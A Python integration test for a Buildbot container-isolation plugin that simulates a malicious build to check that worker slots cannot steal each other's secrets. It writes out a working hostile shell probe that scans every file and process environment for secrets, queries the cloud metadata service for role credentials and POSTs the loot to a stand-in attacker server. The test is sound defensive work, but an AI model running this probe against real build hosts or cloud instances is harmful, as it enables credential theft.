"""A hostile build on a container-isolated slot, on a real Docker engine.

The build (slot pool-1-1 of a two-slot instance) tries what a malicious pull request
would: collect every credential-looking string it can read (any file, any process),
read the user data and the role's credentials from the metadata service, send what it
found to an outside "attacker" (a server in this test), and leave a file and a process
behind. The attacker then tries to log in to the master as the other slot and, after
the build, as the build's own slot. Everything must fail, and the next builds on both
slots must run unaffected.
"""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import ThreadingHTTPServer
from pathlib import Path

import pytest
import requests

from buildbot_dockerami.localcloud.containers import (
    ROLE_CREDENTIALS_PATH,
    ROLE_NAME,
    ContainerRuntime,
    QuietHandler,
)
from buildbot_dockerami.protocol import userdata
from buildbot_dockerami.protocol.passwords import container_password
from tests.docker_support import LEFTOVERS, container_names, facts, only_instance
from tests.harness import SUCCESS, master_cfg, wait_for

pytestmark = pytest.mark.integration

PB_LOGIN = Path(__file__).with_name("pb_login.py")


class Attacker:
    """The outside end of an exfiltration: tells the build where the metadata service
    is, receives its loot, and decides when the build may end."""

    def __init__(self) -> None:
        self.target = ""
        self.loot: bytes | None = None
        self.released = threading.Event()
        attacker = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                if self.path == "/target":
                    self.reply(200, attacker.target)
                elif self.path == "/release":
                    self.reply(200 if attacker.released.is_set() else 404)
                else:
                    self.reply(404)

            def do_POST(self) -> None:
                attacker.loot = self.rfile.read(int(self.headers["Content-Length"]))
                self.reply(200)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def tokens(self) -> set[str]:
        return set((self.loot or b"").decode(errors="replace").split())


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    attacker = Attacker()
    yield attacker
    attacker.server.shutdown()
    attacker.server.server_close()


# Every credential-looking string a build can read: any file, any process.
SCAN = (
    "{ grep -rhoaE '[0-9a-f]{32}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev "
    "--exclude='loot*'; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline "
    "| tr '\\0' '\\n' | grep -oaE '[0-9a-f]{32}'; } 2>/dev/null"
)


def hostile_probe(attacker_url: str) -> str:
    return LEFTOVERS + f"""
A={attacker_url}
IMDS=$(curl -sf "$A/target")
curl -s -m 5 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' "$IMDS/latest/api/token" \
    > imds.out; echo "imds api/token exit=$?"; cat imds.out >> loot
for path in user-data meta-data/iam/security-credentials/{ROLE_NAME}; do
    curl -s -m 5 "$IMDS/latest/$path" > imds.out; echo "imds $path exit=$?"; cat imds.out >> loot
done
{SCAN} >> loot
sort -u loot > loot.sorted
echo "loot: $(wc -l < loot.sorted) strings"
curl -sf --data-binary @loot.sorted "$A/loot" && echo loot-sent
until curl -sf "$A/release"; do sleep 0.3; done
"""


def config(attacker_url: str, image: str) -> str:
    text = master_cfg(image=image, command="true", build_wait_timeout=120,
                      pool="'pool', slots=2", plugins={"dockerami": {}})
    return text + f"""
def probe(command):
    return util.BuildFactory([steps.ShellCommand(name='run', command=['sh', '-c', command])])

# One workspace for all, so that the next build would see what the hostile one left.
c['builders'] = [
    util.BuilderConfig(name='hostile', workernames=['pool-1-1'], workerbuilddir='shared',
                       factory=probe({hostile_probe(attacker_url)!r})),
    util.BuilderConfig(name='next', workernames=['pool-1-1'], workerbuilddir='shared',
                       factory=probe({LEFTOVERS!r})),
    util.BuilderConfig(name='victim', workernames=['pool-1-2'], workerbuilddir='shared',
                       factory=probe({LEFTOVERS!r})),
]
c['schedulers'] = [schedulers.ForceScheduler(name='force',
                                             builderNames=['hostile', 'next', 'victim'])]
"""


def pb_logins(master, attempts: list[tuple[str, str]]) -> list[str]:
    result = subprocess.run(
        [sys.executable, str(PB_LOGIN), "127.0.0.1", str(master.pb_port)],
        input=json.dumps(attempts), capture_output=True, text=True, timeout=600, check=True)
    return json.loads(result.stdout)


def slot_row(master, name: str) -> dict:
    """The slot's row on the Fleet page (its timeline restarts with each container)."""
    return next(w for w in master.fleet()["workers"] if w["name"] == name)


def slot_secrets(cloud, instance_id: str) -> dict[int, str]:
    attribute = cloud.client().describe_instance_attribute(InstanceId=instance_id,
                                                           Attribute="userData")
    data = userdata.parse(base64.b64decode(attribute["UserData"]["Value"]).decode())
    return {int(key.split(".")[1]): value for key, value in data.extensions.items()
            if key.startswith("secret.")}


def test_a_hostile_build_gets_no_credential_no_metadata_and_leaves_nothing(
        make_master, cloud, engine, worker_image, attacker):
    master = make_master(config(attacker.url, worker_image))
    victim = master.wait_request(master.force("victim"), 180)  # boots the instance
    assert victim["results"] == SUCCESS, master.log()[-3000:]
    instance_id = only_instance(cloud)["InstanceId"]
    attacker.target = cloud.runtime.metadata_url(instance_id)
    secrets = slot_secrets(cloud, instance_id)
    assert sorted(secrets) == [0, 1]  # pool-1-1 is slot 0, pool-1-2 slot 1

    hostile = master.force("hostile")
    wait_for(lambda: attacker.loot is not None, 240, "the hostile build's loot")
    build = master.builds_for(hostile)[0]
    output = master.step_log(build["buildid"])
    loot = attacker.tokens()

    # 1. Files and processes: the build finds its own container's password (the probe
    #    works) and nothing of the other slot, nor any slot secret.
    own = [n for n in range(20) if container_password(secrets[0], n) in loot]
    assert len(own) == 1, output
    (number,) = own
    forbidden = {*secrets.values(), *(container_password(secrets[1], n) for n in range(20)),
                 *(container_password(secrets[0], n) for n in range(number + 1, number + 20))}
    assert not loot & forbidden

    # 2. The metadata service: refused at connection (curl exit 7), never reached; the
    #    host (root, not in the containers' group) still reads it.
    for path in ("api/token", "user-data", f"meta-data/iam/security-credentials/{ROLE_NAME}"):
        assert f"imds {path} exit=7" in output, output
    requests_seen = cloud.runtime.metadata_requests(instance_id)
    assert not [r for r in requests_seen if ROLE_CREDENTIALS_PATH in r[1]]
    assert [r[:2] for r in requests_seen].count(("GET", "/latest/user-data")) == 1  # bootstrap
    token = requests.put(f"{attacker.target}/latest/api/token", timeout=5,
                         headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}).text
    role = requests.get(f"{attacker.target}{ROLE_CREDENTIALS_PATH}/{ROLE_NAME}", timeout=5,
                        headers={"X-aws-ec2-metadata-token": token}).json()
    assert role["AccessKeyId"] not in (attacker.loot or b"").decode()

    # 3. With everything it found, the attacker cannot be the other slot (nor, while the
    #    build runs, a second copy of this one). What the pristine image holds is the
    #    same for everyone (and tens of thousands of strings): only the rest is tried.
    pristine = set(engine.containers.run(
        worker_image, entrypoint=["sh", "-c", f"{SCAN}; true"], network_mode="none",
        remove=True).decode().split())
    found = sorted(loot - pristine)
    assert container_password(secrets[0], number) in found
    attempts = [(name, token) for token in found for name in ("pool-1-2", "pool-1-1")]
    assert set(pb_logins(master, attempts)) == {"refused"}, found

    # 4. After the build, its password is worth nothing: at once, while the slot waits
    #    for its next container; once that container has connected; and (below) after
    #    the slot's next build.
    spent = container_password(secrets[0], number)
    attacker.released.set()
    done = master.wait_request(hostile, 120)
    assert done["results"] == SUCCESS
    assert pb_logins(master, [("pool-1-1", spent)]) == ["refused"]
    wait_for(lambda: slot_row(master, "pool-1-1")["timeline"].get("connected", 0)
             > done["complete_at"], 120, "pool-1-1's next container to connect")
    assert pb_logins(master, [("pool-1-1", spent)]) == ["refused"]

    # 5. The next builds on both slots run in fresh containers and find nothing left.
    hostile_facts = facts(master, build)
    for builder in ("next", "victim"):
        after = master.wait_request(master.force(builder), 180)
        assert after["results"] == SUCCESS, master.log()[-3000:]
        seen = facts(master, after)
        assert seen["instance"] == hostile_facts["instance"]
        assert seen["container"] != hostile_facts["container"]
        assert [seen[k] for k in ("workspace", "home", "tmp", "process")] == ["no"] * 4
    assert pb_logins(master, [("pool-1-1", spent)]) == ["refused"]
    assert "invalid login from user 'pool-1-2'" in master.log()
    assert master.stop(timeout=30), "the master did not stop within 30s"


@pytest.mark.parametrize("runtime", [lambda d: ContainerRuntime(d, iptables="false")])
def test_without_its_firewall_rule_the_bootstrap_runs_no_container(
        make_master, cloud, engine, worker_image):
    """Fail closed: a bootstrap that cannot close the metadata service powers off."""
    master = make_master(master_cfg(image=worker_image, worker_extra="isolation='container',",
                                    missing_timeout=600))
    master.force()
    wait_for(lambda: "latent worker crashed before connecting" in master.log(), 90,
             "the substantiation to fail")
    failure = next(line for line in master.log().splitlines()
                   if "latent worker crashed before connecting" in line)
    assert "FATAL: cannot close the metadata service" in failure
    # buildbot retries the request, so a second instance may be on its way: this one is
    # the one the failure names.
    instance_id = re.search(r"instance (i-[0-9a-f]+)", failure).group(1)
    assert "starting" not in cloud.runtime.console(instance_id)  # no container, no pull
    assert not container_names(engine, ContainerRuntime.container_name(instance_id))

    def state() -> str:
        reservations = cloud.client().describe_instances(InstanceIds=[instance_id])
        return reservations["Reservations"][0]["Instances"][0]["State"]["Name"]
    wait_for(lambda: state() == "terminated", 30, "the instance to be terminated")
